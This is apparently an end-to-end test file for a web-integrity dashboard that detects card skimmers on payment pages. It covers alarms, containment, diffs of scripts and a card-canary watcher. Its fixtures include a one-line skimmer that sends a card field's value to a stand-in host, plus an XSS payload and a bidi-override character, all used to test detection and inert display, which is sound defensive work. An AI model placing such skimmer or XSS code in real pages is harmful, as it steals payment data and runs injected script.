import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, test } from 'node:test'
import type { Browser, Locator, Page } from 'playwright-core'
import { openBrowser, openDesk, type OpenDesk } from './open-desk.ts'

const checkout = '018f0000-0000-7000-8000-000000009a01'
const tagScript = '018f0000-0000-7000-8000-000000005c01'
const scriptPage = `pages?item=${checkout}&script=${tagScript}`

let browser: Browser
before(async () => {
  browser = await openBrowser()
})
after(() => browser.close())

async function atIntegrity(
  section: string,
  options: Parameters<typeof openDesk>[1],
  run: (desk: OpenDesk) => Promise<void>,
): Promise<void> {
  const desk = await openDesk(browser, {
    path: section.startsWith('/') ? section : `/desk/integrity/${section}`,
    integrity: 'alarms',
    ...options,
  })
  try {
    await run(desk)
    assert.deepEqual(desk.violations, [], 'the content security policy refused nothing')
    assert.deepEqual(desk.faults, [], 'nothing was thrown')
  } finally {
    await desk.close()
  }
}

const open = ({ server }: OpenDesk) => server.integrity.alarms().filter(({ state }) => state === 'open')
const alarm = (page: Page): Locator => page.getByRole('region', { name: 'The alarm' })
const alarmTitle = (page: Page, name: string): Promise<void> =>
  alarm(page).getByRole('heading', { name, level: 2 }).waitFor()

/** What was asked of the API below /v1/integrity with this method. */
const sent = ({ server }: OpenDesk, method: string): string[] =>
  server.log
    .filter((one) => one.method === method && one.path.startsWith('/v1/integrity/'))
    .map(({ path }) => path.slice('/v1/integrity/'.length))

test('the state stands in one sentence, and everything below it leads on', () =>
  atIntegrity('overview', {}, async ({ page }) => {
    await page.getByText('Card data was seen leaving: 4 alarms need a decision').waitFor()
    const alarms = page.getByRole('region', { name: 'Needs a decision' }).getByRole('link')
    assert.deepEqual(
      (await alarms.allInnerTexts()).map((text) => text.split('\n')[0]),
      ['Canary card number seen leaving', 'Unknown script', 'Two variants at once', 'Reports fell silent'],
      'proof first, what cannot be seen last',
    )
    await page.getByRole('img', { name: /^Plot by minute: 2,\d+ page views/ }).waitFor()
    await page.locator('.uplot canvas').waitFor()
    await page.getByText('The same as a table').click()
    assert.equal(
      await page
        .getByRole('region', { name: /^Page views and reports by minute/ })
        .getByRole('row')
        .count(),
      61,
    )
    await page.getByRole('link', { name: 'entry #' }).click()
    await page.getByRole('heading', { name: 'Access log' }).waitFor()
    await page.getByText('As it stands in the log').waitFor()
    await page.goBack()
    await alarms.nth(2).click()
    await alarmTitle(page, 'Two variants at once')
  }))

test('where all is well the sentence says of how much that is known', () =>
  atIntegrity('overview', { integrity: 'quiet' }, async ({ page }) => {
    await page.getByText('All 6 pages run only what was approved').waitFor()
    await page.getByText('As 68 % of the last hour’s page views reported.').waitFor()
    assert.equal(await page.getByRole('region', { name: 'Needs a decision' }).count(), 0)
  }))

test('a tenant that begins copies its header lines, and is told what comes next', () =>
  atIntegrity(
    'overview',
    { integrity: 'new', context: { permissions: ['clipboard-read', 'clipboard-write'] } },
    async ({ page }) => {
      await page.getByText('Nothing is seen yet').waitFor()
      await page.getByRole('button', { name: 'Copy' }).click()
      await page.getByRole('button', { name: 'Copied' }).waitFor()
      const copied = await page.evaluate(() => navigator.clipboard.readText())
      assert.match(
        copied,
        /^Reporting-Endpoints: candor="https:[^\n]+\nContent-Security-Policy-Report-Only: [^\n]+$/,
      )
      await page.getByRole('link', { name: 'let the watcher go to your payment page' }).click()
      await page.getByRole('button', { name: 'Add your payment page' }).waitFor()
    },
  ))

test('with the keyboard alone an alarm is chosen, approved with owner and reason, and the next one opens', () =>
  atIntegrity('alarms', {}, async (desk) => {
    const { page, server } = desk
    await alarmTitle(page, 'Canary card number seen leaving')
    await page.keyboard.press('j')
    await alarmTitle(page, 'Unknown script')
    await page.keyboard.press('a')
    const dialog = page.getByRole('dialog', { name: 'Approve: unknown script' })
    await dialog.waitFor()
    assert.equal(await dialog.getByRole('button', { name: 'Approve' }).isDisabled(), true)
    await page.waitForFunction(() => document.activeElement?.matches('[role="dialog"] input'))
    await page.keyboard.type('Design team')
    await page.keyboard.press('Tab')
    await page.keyboard.type('Fonts of the new brand.')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await dialog.waitFor({ state: 'detached' })
    await alarmTitle(page, 'Two variants at once')
    const script = server.integrity.scripts().find(({ url }) => url.endsWith('/w.js'))!
    assert.equal(script.owner, 'Design team')
    assert.equal(script.hashes[0]!.state, 'approved')
    assert.equal(open(desk).length, 3)
    await page.keyboard.press('k')
    await alarmTitle(page, 'Canary card number seen leaving')
  }))

test('a dismissed alarm says why, an incident is opened with one key, and neither can be had without asking', () =>
  atIntegrity('alarms', {}, async (desk) => {
    const { page, server } = desk
    await alarmTitle(page, 'Canary card number seen leaving')
    await page.keyboard.press('i')
    await page
      .getByRole('dialog', { name: 'Open an incident' })
      .getByText('Legal deadlines count from it')
      .waitFor()
    assert.equal(open(desk).length, 4)
    await page.getByRole('button', { name: 'Open it' }).click()
    await page.getByText('An incident is open.').waitFor()
    await alarmTitle(page, 'Unknown script')
    await page.keyboard.press('d')
    await page.getByRole('textbox', { name: 'Why it needs nothing' }).fill('Seen it before.')
    await page.getByRole('dialog').getByRole('button', { name: 'Dismiss', exact: true }).click()
    await page.getByText('Should it come again').waitFor()
    assert.deepEqual(
      server.integrity.alarms().map(({ state }) => state),
      ['dismissed', 'incident', 'open', 'open', 'dismissed'],
    )
    await page.getByRole('button', { name: 'Incidents' }).click()
    await alarm(page).getByText('An incident by Maya Lindqvist').first().waitFor()
  }))

test('containing says what visitors will see, stops frame by frame, shows on every page, and is undone', () =>
  atIntegrity('alarms', {}, async ({ page, server }) => {
    server.integrity.stopping(60)
    await alarmTitle(page, 'Canary card number seen leaving')
    await page.keyboard.press('c')
    const dialog = page.getByRole('dialog', { name: 'Contain: stop the chat' })
    await dialog.getByText('This page shows no chat any more').waitFor()
    await dialog.getByText('This stops the chat, not the script').waitFor()
    await page.keyboard.press('ArrowDown')
    await dialog.getByText('No page of https://www.aurelia.example shows the chat any more.').waitFor()
    await dialog.getByRole('button', { name: 'Stop the chat' }).click()
    await page.getByText('The chat is stopped on https://www.aurelia.example').first().waitFor()
    assert.deepEqual(server.integrity.containments()[0]!.scope, {
      kind: 'site',
      origin: 'https://www.aurelia.example',
    })

    await page.getByRole('link', { name: 'Desk' }).click()
    await page.getByRole('link', { name: 'See it' }).click()
    await page.getByText(/^\d+ of 212 open chats have stopped$/).waitFor()
    await page.getByText('212 of 212 open chats have stopped').waitFor()

    await page.getByRole('button', { name: 'Undo…' }).click()
    const undo = page.getByRole('dialog', { name: 'Let the chat run again' })
    assert.equal(await undo.getByRole('button', { name: 'Undo the containment' }).isDisabled(), true)
    await undo.getByRole('textbox', { name: 'Why it is safe again' }).fill('The script is gone.')
    await undo.getByRole('button', { name: 'Undo the containment' }).click()
    await page.getByText('The chat runs wherever its tag stands.').waitFor()
    await page.getByRole('link', { name: 'See it' }).waitFor({ state: 'detached' })
    await page.getByText('undone by Maya Lindqvist').first().waitFor()
  }))

test('an alarm that is raised while one looks comes by itself, and is said once and politely', () =>
  atIntegrity('alarms', { integrity: 'quiet' }, async ({ page, server }) => {
    await page.getByText('No alarm is open.').waitFor()
    server.integrity.raise({ what: 'A script that nobody knows runs on the checkout.' })
    await alarmTitle(page, 'Unknown script')
    const said = page.locator('[aria-live="polite"]', {
      hasText: 'New alarm: Unknown script. A script that nobody',
    })
    await said.waitFor({ state: 'attached' })
    assert.equal(await said.count(), 1)
    await page.getByRole('link', { name: 'Alarms 1 open' }).waitFor()
  }))

test('an alarm that somebody else decides stays on screen, with what was decided', () =>
  atIntegrity('alarms', {}, async (desk) => {
    const { page, server } = desk
    await page.getByRole('link', { name: 'Unknown script' }).click()
    await alarmTitle(page, 'Unknown script')
    server.integrity.decided(open(desk).find(({ kind }) => kind === 'unknown-script')!.id)
    await alarm(page).getByText('Dismissed by Ingrid Solberg').first().waitFor()
    assert.equal(await alarm(page).getByRole('button', { name: 'Approve' }).count(), 0)
    await page.keyboard.press('a')
    assert.equal(await page.getByRole('dialog').count(), 0)
  }))

test('the timeline shows two contents at once, and the difference finds the skimmer in a minified script', () =>
  atIntegrity(scriptPage, {}, async ({ page }) => {
    const contents = page.getByRole('list', { name: 'Contents, the newest first' })
    await contents.getByText('7 % of the last hour').waitFor()
    await contents.getByText('93 % of the last hour').waitFor()
    await page.getByText('2 changes').waitFor()
    await page.getByText('Minified. Shown one statement a line').waitFor()
    const both = page.getByRole('region', { name: 'Both contents' })
    await page.keyboard.press('j')
    await page.getByText('Change 1 of 2').waitFor()
    await both.getByText('new Image().src="https://fonts-cache.example/i?"+btoa(t.value)').waitFor()
    await page.keyboard.press('j')
    await page.getByText('Change 2 of 2').waitFor()
    assert.deepEqual(await both.locator('del').allInnerTexts(), ['tagworks'])
    assert.deepEqual(await both.locator('ins').allInnerTexts(), ['fonts-cache'])
    assert.equal(await both.evaluate((element) => element.contains(document.activeElement)), true)
    await page.keyboard.press('k')
    await page.getByText('Change 1 of 2').waitFor()

    await page.getByRole('button', { name: 'In one column' }).click()
    await page.getByRole('button', { name: 'Side by side' }).waitFor()
    assert.match(page.url(), /layout=unified/)
    assert.equal(await both.getByRole('row').first().getByRole('columnheader').count(), 3)
  }))

test('a captured body is text, whatever stands in it', () =>
  atIntegrity('alarms', {}, async ({ page }) => {
    let asked = 0
    await page.route(/\/v1\/integrity\/bodies\//, (route) =>
      route.fulfill({
        contentType: 'text/plain',
        body: `<img src=x onerror="window.ran=1"><script>window.ran=1</script>\nif (a\u202e ${++asked}) {}\n`,
      }),
    )
    await page.goto(page.url().replace(/alarms.*/, scriptPage))
    const both = page.getByRole('region', { name: 'Both contents' })
    await both.getByText('<img src=x onerror="window.ran=1"><script>').first().waitFor()
    // What turns the order of the text that follows is shown, not obeyed.
    await both.getByText('⟨U+202E⟩').first().waitFor()
    assert.equal(await both.locator('img, script').count(), 0)
    assert.equal(await page.evaluate(() => 'ran' in globalThis), false)
  }))

test('two scripts of 500 KB are compared while the page goes on to answer', (t) =>
  atIntegrity('alarms', {}, async ({ page }) => {
    const minified = (seed: number): string =>
      Array.from(
        { length: 7_200 },
        (_, i) =>
          `function f${i}(e,t){if(!e){return t||${i}}var n=e.split(".");return t+n[${(i * (i % 97 === 0 ? seed : 1)) % 9}]}`,
      ).join('')
    let asked = 0
    await page.route(/\/v1\/integrity\/bodies\//, (route) =>
      route.fulfill({ contentType: 'text/plain', body: minified(++asked) }),
    )
    await alarmTitle(page, 'Canary card number seen leaving')
    await page.evaluate(() => {
      const spans: number[] = []
      Object.assign(globalThis, { spans })
      let last = performance.now()
      const tick = (): void => {
        const now = performance.now()
        spans.push(now - last)
        last = now
        requestAnimationFrame(tick)
      }
      requestAnimationFrame(tick)
    })
    await page.getByRole('link', { name: 'Two variants at once' }).click()
    await page.getByRole('link', { name: 'Compare with what was approved' }).click()
    await page.getByText(/^\d+ changes/).waitFor()
    assert.ok(minified(1).length > 500_000)
    const longest = await page.evaluate(() =>
      Math.max(...(globalThis as unknown as { spans: number[] }).spans),
    )
    t.diagnostic(`longest time without a frame: ${Math.round(longest)} ms`)
    // Slices of 8 ms, and the rows that are drawn at the end; the rest is the load of the machine.
    assert.ok(longest < 300, `${longest} ms without a frame`)
  }))

test('what waits on a page is approved at once, with a reason and a warning', () =>
  atIntegrity(`pages?item=${checkout}`, {}, async ({ page, server }) => {
    await page.getByText('2 scripts wait for a decision').waitFor()
    await page.getByRole('button', { name: 'Approve all of them…' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByText('fonts-cache.example/w.js').waitFor()
    await dialog.getByText('Do this on a page that you know to be clean.').waitFor()
    await dialog.getByRole('textbox', { name: 'Owner of those that have none' }).fill('Team Brand')
    await dialog.getByRole('textbox', { name: 'Why they belong there' }).fill('Checked with the web team.')
    await dialog.getByRole('button', { name: 'Approve 2 scripts' }).click()
    await page.getByText('2 scripts wait for a decision').waitFor({ state: 'detached' })
    assert.deepEqual(
      server.integrity
        .scripts()
        .filter(({ template }) => template.includes('checkout'))
        .map(({ state }) => state),
      ['approved', 'approved', 'approved', 'approved', 'refused'],
    )
    assert.equal(server.integrity.scripts().find(({ url }) => url.endsWith('/w.js'))!.owner, 'Team Brand')
  }))

test('one content of a script is refused with a reason', () =>
  atIntegrity(scriptPage, {}, async ({ page, server }) => {
    await page.getByRole('button', { name: 'Refuse…' }).click()
    await page.getByRole('dialog').getByText('It does not stop the script').waitFor()
    await page.getByRole('textbox', { name: 'Why it does not belong there' }).fill('It reads card fields.')
    await page.getByRole('dialog').getByRole('button', { name: 'Refuse' }).click()
    await page.getByText('Refused. It stays an alarm while it runs.').waitFor()
    const script = server.integrity.scripts().find(({ id }) => id === tagScript)!
    assert.deepEqual(
      script.hashes.map(({ state }) => state),
      ['approved', 'approved', 'refused'],
    )
    assert.equal(script.state, 'approved')
  }))

test('the kill switch wants a reason and a word, and says its entry', () =>
  atIntegrity('containment', { role: 'privacy-officer' }, async ({ page, server }) => {
    await page.getByRole('button', { name: 'Stop the chat…' }).click()
    const dialog = page.getByRole('dialog', { name: 'Stop the chat' })
    const stop = dialog.getByRole('button', { name: 'Stop the chat' })
    await dialog.getByText('No page of yours shows the chat any more.').waitFor()
    await dialog.getByText('One page').click()
    await dialog.getByRole('button', { name: /Which page/ }).click()
    await page.getByRole('option', { name: 'https://www.aurelia.example/baggage' }).click()
    await dialog.getByRole('textbox', { name: 'Why' }).fill('A skimmer.')
    assert.equal(await stop.isDisabled(), true)
    await dialog.getByRole('textbox', { name: 'Type “stop” to confirm' }).fill('Stop')
    await stop.click()
    await page.getByText(/^Containment has begun\. Entry #\d+\.$/).waitFor()
    const [made] = server.integrity.containments()
    assert.deepEqual(made!.scope, { kind: 'template', template: 'https://www.aurelia.example/baggage' })
    assert.equal(made!.reason, 'A skimmer.')
  }))

test('the playbook is saved as a whole, and a refused webhook loses nothing', () =>
  atIntegrity('containment', {}, async ({ page, server }) => {
    await page.getByLabel('Unknown script: what is done').selectOption('Stop the chat on that page')
    await page.getByLabel('Unknown script: smallest share of page views in percent').fill('2.5')
    const webhook = page.getByRole('textbox', { name: 'Webhook' })
    await webhook.fill('http://hooks.aurelia.example')
    await page.getByRole('button', { name: 'Save the playbook' }).click()
    await page.getByText('A webhook is https, or an origin').waitFor()
    await webhook.fill('https://hooks.aurelia.example/new')
    await page.getByRole('button', { name: 'Save the playbook' }).click()
    await page.getByText('Saved. It holds for alarms from now on.').waitFor()
    assert.deepEqual(server.integrity.playbook(), {
      rules: [
        { kind: 'canary-seen', scope: 'template', sharePercentMin: 0 },
        { kind: 'unknown-script', scope: 'template', sharePercentMin: 2.5 },
      ],
      webhook: 'https://hooks.aurelia.example/new',
    })
  }))

test('the watcher marks proof as proof, is sent out at once, and goes to a new page with its approved hosts', () =>
  atIntegrity('watcher', {}, async ({ page, server }) => {
    const proof = page.getByRole('listitem').filter({ hasText: 'Card number ending in 4242' }).last()
    await proof.getByText('Proof', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Run now' }).first().click()
    await page.getByText('The watcher is on its way.').waitFor()
    await page.getByRole('button', { name: 'On its way https://www.aurelia.example/checkout/demo' }).waitFor()

    await page.getByRole('button', { name: 'Add a page' }).click()
    const dialog = page.getByRole('dialog', { name: 'Watch a page' })
    const watch = dialog.getByRole('button', { name: 'Watch it' })
    await dialog.getByRole('textbox', { name: 'Address of the page' }).fill('https://www.aurelia.example/pay')
    await dialog.getByRole('checkbox', { name: /^At night/ }).uncheck()
    const hosts = dialog.getByRole('textbox', { name: 'Hosts that may be sent card numbers' })
    await hosts.fill('pay.vaultline.example\n*.vaultline.example')
    await dialog.getByText('“*.vaultline.example” is no host name.').waitFor()
    assert.equal(await watch.isDisabled(), true)
    await hosts.fill('pay.vaultline.example')
    await watch.click()
    await dialog.waitFor({ state: 'detached' })
    const { id: _, lastRun: __, ...made } = server.integrity.watched().at(-1)!
    assert.deepEqual(made, {
      url: 'https://www.aurelia.example/pay',
      profiles: ['desktop', 'phone', 'cart', 'fresh'],
      everyMinutes: 60,
      approvedHosts: ['pay.vaultline.example'],
    })
  }))

test('evidence is what the server gave, byte for byte, for the days that were asked', () =>
  atIntegrity('evidence?from=2026-10-01&to=2026-10-31', {}, async ({ page }) => {
    const download = async (name: string): Promise<[string, string]> => {
      const [file] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name }).click(),
      ])
      return [file.suggestedFilename(), readFileSync(await file.path(), 'utf8')]
    }
    const [name, csv] = await download('For a spreadsheet (CSV)')
    assert.match(name, /^scripts-\d{4}-\d\d-\d\d\.csv$/)
    assert.match(csv, /^page,script\nhttps:\/\/www\.aurelia\.example\/checkout\/:id,https:/)
    assert.deepEqual(await download('Report of these days'), [
      'changes-2026-10-01-2026-10-31.json',
      '{"report":"changes","from":"2026-10-01T00:00:00.000Z","to":"2026-10-31T23:59:59.999Z"}',
    ])
    await page.getByLabel('To', { exact: true }).fill('2026-09-01')
    await page.getByText('It ends before it begins.').waitFor()
    assert.equal(await page.getByRole('button', { name: 'Report of these days' }).isDisabled(), true)
  }))

test('an agent’s desk carries nothing of integrity: no link, no banner, no request, no code', () =>
  atIntegrity('/desk/', { role: 'agent' }, async (desk) => {
    const { page, server } = desk
    const files: string[] = []
    page.on('request', (request) => files.push(new URL(request.url()).pathname))
    await page.getByRole('button', { name: /^Maya Lindqvist/ }).waitFor()
    await page.reload()
    await page.getByRole('link', { name: 'Desk' }).waitFor()
    await page.getByRole('button', { name: /^Maya Lindqvist/ }).waitFor()
    assert.equal(await page.getByRole('link', { name: 'Integrity' }).count(), 0)
    assert.equal(await page.getByText('Proof:').count(), 0)
    assert.deepEqual(
      server.log.filter(({ path }) => path.startsWith('/v1/integrity')),
      [],
    )
    assert.deepEqual(
      files.filter((file) => /integrity/.test(file)),
      [],
    )
    await page.goto(`${server.origin}/desk/integrity/alarms`)
    await page.getByText('Your role does not look in here').waitFor()
    assert.deepEqual(sent(desk, 'GET'), [])
  }))

test('a supervisor reads everything and is offered nothing that would be refused', () =>
  atIntegrity('alarms', { role: 'supervisor' }, async (desk) => {
    const { page } = desk
    await alarmTitle(page, 'Canary card number seen leaving')
    await alarm(page).getByText('Administrators and privacy officers decide about it.').waitFor()
    for (const key of ['a', 'c', 'i', 'd']) await page.keyboard.press(key)
    assert.equal(await page.getByRole('dialog').count(), 0)
    for (const [section, words] of [
      [`pages?item=${checkout}`, '2 scripts wait'],
      [scriptPage, 'Its contents over time'],
      ['containment', 'undo and the playbook are for administrators'],
      ['watcher', 'Card numbers may go to'],
    ] as const) {
      await page.goto(`${desk.server.origin}/desk/integrity/${section}`)
      await page.getByText(words).first().waitFor()
      for (const name of [
        'Approve',
        'Refuse',
        'Stop the chat…',
        'Run now',
        'Save the playbook',
        'Undo',
        'Add a page',
      ])
        assert.equal(await page.getByRole('button', { name }).count(), 0, `${section}: ${name}`)
    }
    assert.deepEqual(sent(desk, 'POST'), [])
  }))

test('a supervisor on shift stops one page, and nothing larger', () =>
  atIntegrity('containment', { role: 'supervisor' }, async ({ page, server }) => {
    await page.getByRole('button', { name: 'Stop the chat on one page…' }).click()
    const dialog = page.getByRole('dialog', { name: 'Stop the chat' })
    assert.equal(await dialog.getByRole('radio').count(), 1)
    await dialog.getByRole('textbox', { name: 'Why' }).fill('A skimmer.')
    await dialog.getByRole('textbox', { name: 'Type “stop” to confirm' }).fill('stop')
    await page.keyboard.press('Enter')
    await page.getByText('Containment has begun.').waitFor()
    assert.equal(server.integrity.containments()[0]!.scope.kind, 'template')
    assert.equal(await page.getByRole('button', { name: 'Undo…' }).count(), 0)
  }))

test('the secret of a webhook is shown once, when it is first named and when it is made anew', () =>
  atIntegrity('containment', { integrity: 'quiet' }, async ({ page }) => {
    await page.getByRole('textbox', { name: 'Webhook' }).fill('https://hooks.aurelia.example/candor')
    await page.getByRole('button', { name: 'Save the playbook' }).click()
    await page.getByText('whsec_4f1c').waitFor()
    await page.getByRole('button', { name: 'Done' }).click()
    await page.getByText('whsec_4f1c').waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'New secret for the webhook…' }).click()
    await page.getByText('The one you have counts no longer at once.').waitFor()
    await page.getByRole('button', { name: 'Make a new one' }).click()
    await page.getByText('whsec_9b2e').waitFor()
  }))
